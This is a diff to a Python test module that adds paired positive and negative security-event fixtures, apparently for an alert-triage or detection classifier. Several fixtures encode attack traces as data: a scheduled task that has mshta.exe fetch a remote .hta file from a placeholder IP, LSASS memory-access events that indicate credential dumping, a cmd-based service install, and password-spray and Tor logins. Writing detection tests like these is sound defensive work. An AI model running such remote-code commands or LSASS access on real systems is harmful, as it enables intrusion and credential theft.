@@ -42,6 +42,11 @@ def sent(size: float, target: str = OUT, **more: Any) -> dict[str, Any]:
     return {"bytes_out": int(size * 10**9), "destination_ip": target, **more}
 
 
+LSASS: dict[str, Any] = {
+    "TargetImage": "C:\\Windows\\System32\\lsass.exe",
+    "GrantedAccess": "0x1410",
+    "CallTrace": "ntdll.dll+9d2d4|UNKNOWN(0000019A7C2D0F4A)",
+}
 RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "guessed_login_outside": (login(10, True, OUT), login(9, True, OUT)),
     "guessed_login_inside": (login(20, True, IN), login(19, True, IN)),
@@ -80,6 +85,62 @@ RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "many_taken": ({"files_downloaded": 1000}, {"files_downloaded": 999}),
     "technique_mapped": ({"rule": {"mitre": {"id": ["T1110"]}}}, {"ticket": "T11"}),
     "called_guilty": ({"classification": "truePositive"}, {"classification": "unknown"}),
+    "spray_hit": ({"users_targeted": 40, "users_ok": 1}, {"users_targeted": 40, "users_ok": 0}),
+    "tor_login": (login(None, True, "185.220.101.9"), login(None, False, "185.220.101.9")),
+    "service_image": (
+        {"EventID": 7045, "ServiceName": "x", "ImagePath": "%COMSPEC% /c start"},
+        {"EventID": 7045, "ServiceName": "x", "ImagePath": "C:\\Program Files\\Agent\\agent.exe"},
+    ),
+    "task_content": (
+        {"TaskContent": "<Command>mshta.exe</Command> http://203.0.113.1/c.hta"},
+        {"TaskContent": "<Command>defrag.exe</Command>"},
+    ),
+    "ruling_member": (
+        {"EventID": 4732, "TargetUserName": "Administrators"},
+        {"EventID": 4732, "TargetUserName": "Printers"},
+    ),
+    "account_event": ({"EventID": "4720"}, {"EventID": "4722"}),
+    "lsass_handle": (LSASS, {**LSASS, "GrantedAccess": "0x1000"}),
+    "odd_lsass_call": (LSASS, {**LSASS, "CallTrace": "ntdll.dll+9d2d4|kernelbase.dll"}),
+    "mail_scopes": (
+        {"publisher_verified": False, "scopes": "Mail.Send"},
+        {"publisher_verified": True, "scopes": "Mail.Send"},
+    ),
+    "many_consents": ({"users_consented": 5}, {"users_consented": 4}),
+    "many_names": ({"query_count": 5000}, {"query_count": 4999}),
+    "approval_doubted": ({"in_window": False}, {"in_window": True}),
+    "listed": ({"egress_listed": True}, {"egress_listed": True, "in_window": False}),
+    "doubted_approval": ({"change_ticket": "CHG-1190 (expired)"}, {"change_ticket": "CHG-1190"}),
+    "plain_cause": ({"root_cause": "stale credential on a phone"}, {"root_cause": "unknown"}),
+    "laboratory": ({"environment": "sandbox"}, {"environment": "sandbox?"}),
+    "part_verdict": ({"rescan": "clean"}, {"rescan": "infected"}),
+    "system_logon": ({"EventID": 4624, "LogonType": 5}, {"EventID": 4624, "LogonType": 10}),
+    "routine_event": ({"EventID": 7036}, {"EventID": 7045}),
+    "low_level": (
+        {"rule": {"level": 3}, "agent": {"id": "014"}},
+        {"rule": {"level": 4}, "agent": {"id": "014"}},
+    ),
+    "compliant": ({"compliance_status": "PASSED"}, {"compliance_status": "FAILED"}),
+    "own_password": (
+        {"event_type": "password_change", "device": {"managed": True}},
+        {"event_type": "password_change", "device": {"managed": True}, "actor": "helpdesk", "user": "cfo"},
+    ),
+    "health_page": ({"url": "/healthz", "source_ip": IN}, {"url": "/healthz?x=1", "source_ip": IN}),
+    "assured_login": (
+        login(0, True, OUT, mfa="satisfied", device_compliant=True),
+        login(0, True, OUT, mfa="satisfied", device_compliant=True, location="NL (first time)"),
+    ),
+    "known_way": (login(0, True, OUT, egress_listed=True), login(3, True, OUT, egress_listed=True)),
+    "lone_knock": (
+        {"action": "blocked", "count": 1, "source_ip": OUT, "severity": "niedrig"},
+        {"action": "blocked", "count": 400, "source_ip": OUT, "severity": "niedrig"},
+    ),
+    "refused_request": ({"action": "blocked", "http_status": 403}, {"action": "blocked", "http_status": 200}),
+    "unwanted_stopped": (
+        {"threat_name": "PUA:Win32/Toolbar", "action": "quarantined"},
+        {"threat_name": "PUA:Win32/Toolbar", "action": "quarantined", "executed": True},
+    ),
+    "idle_page": ({"catdesc": "Advertising", "action": "blocked"}, {"catdesc": "Phishing", "action": "blocked"}),
     "innocent": ({"determination": "notMalicious"}, {"message": "notMalicious"}),
     "closed": ({"status": "Closed"}, {"status": "new"}),
     "change": ({"change_ticket": "CHG0048121"}, {"change_ticket": "none", "message": "change_ticket CHG0048121"}),
@@ -88,7 +149,7 @@ RAW: dict[str, tuple[dict[str, Any], dict[str, Any]]] = {
     "few_failures": (login(3, False, IN), login(3, False, OUT)),
     "plain_login": (login(0, True, IN), login(0, True, OUT)),
     "at_home": (login(0, True, IN, location="Office North"), login(0, True, OUT, location="Office North")),
-    "known_device": ({"known_device": True, "source_ip": IN}, {"known_device": True, "source_ip": OUT}),
+    "known_device": (login(None, True, IN, known_device=True), login(None, True, OUT, known_device=True)),
     "managed": (
         {"parent_process": "C:\\Windows\\CCM\\CcmExec.exe"},
         {"parent_process": "C:\\Users\\Public\\CcmExec.exe"},
